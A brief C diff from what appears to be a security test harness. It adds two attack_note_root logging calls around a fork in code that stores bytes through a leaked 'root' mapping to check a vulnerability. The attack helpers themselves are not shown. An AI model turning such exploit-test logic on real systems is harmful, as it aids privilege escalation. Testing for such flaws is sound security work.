@@ -23,7 +23,9 @@ int main(void)
 		   leak.root_first);
 	/* nothing between may touch a page that is not there yet */
 	attack_check("vuln_store", bw_vuln_store(leak.as_root, leak.root_first, ROOT_BYTES));
+	attack_note_root(&leak, pages, nr_pages, leak.root);
 	child = raw_call(SYS_fork, no_arguments);
+	attack_note_root(&leak, pages, nr_pages, leak.root_first);
 	bw_vuln_store(leak.as_root, leak.root, ROOT_BYTES);
 	if (child < 0) {
 		attack_skip("no memory for another process");
